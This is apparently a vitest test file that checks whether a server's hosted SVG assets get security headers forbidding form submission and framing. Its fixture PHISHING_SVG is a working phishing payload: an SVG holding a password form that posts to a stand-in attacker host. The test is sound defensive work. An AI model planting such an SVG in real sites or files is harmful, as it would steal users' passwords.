// Files the server keeps for sites and serves from its own origin (imported assets at /assets/<file>, the image
// library at /library/...) can draw nothing that posts a form or runs inside another site's frame (rule
// served-files-no-forms-no-framing). Without form-action and
// frame-ancestors, an imported SVG could draw a sign-in form posting the typed password to another site, and any
// site could frame it.
import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestServer, type TestServer } from './harness.js';

let test: TestServer;
beforeAll(async () => {
  test = await startTestServer('served-svg-headers');
});
afterAll(async () => {
  await test?.stop();
});

const PHISHING_SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="400" height="200"><foreignObject width="400" height="200"><form xmlns="http://www.w3.org/1999/xhtml" action="https://attacker.invalid/steal" method="post"><input name="password" type="password"/><button>Sign in</button></form></foreignObject></svg>`;

/** The directives of a Content-Security-Policy header, by name. */
const directives = (csp: string | null) => new Map((csp ?? '').split(';').map((d) => d.trim().split(/\s+/)).filter((d) => d[0]).map(([name, ...values]) => [name!.toLowerCase(), values.join(' ')]));

function expectNoFormsNoFraming(res: Response): void {
  expect(res.status).toBe(200);
  const csp = directives(res.headers.get('content-security-policy'));
  expect(csp.get('default-src')).toBe("'none'");
  expect(csp.get('form-action')).toBe("'none'");
  expect(csp.get('frame-ancestors')).toBe("'none'");
  expect(res.headers.get('x-frame-options')).toBe('DENY');
  expect(res.headers.get('x-content-type-options')).toBe('nosniff');
}

describe('served SVGs', () => {
  it('rule:served-files-no-forms-no-framing — an imported SVG may post no form and be framed by no site', async () => {
    const path = await test.server.parts.assetFiles.keep(Buffer.from(PHISHING_SVG), 'image/svg+xml');
    const res = await fetch(`${test.url}${path}`);
    expect(res.headers.get('content-type')).toMatch(/^image\/svg\+xml/);
    expectNoFormsNoFraming(res);
  });

  it('rule:served-files-no-forms-no-framing — so may an image of the library', async () => {
    const dir = join(test.dir, 'library', 'site_headers');
    await mkdir(dir, { recursive: true });
    await writeFile(join(dir, 'asset_phish.svg'), PHISHING_SVG);
    expectNoFormsNoFraming(await fetch(`${test.url}/library/site_headers/asset_phish.svg`));
  });
});
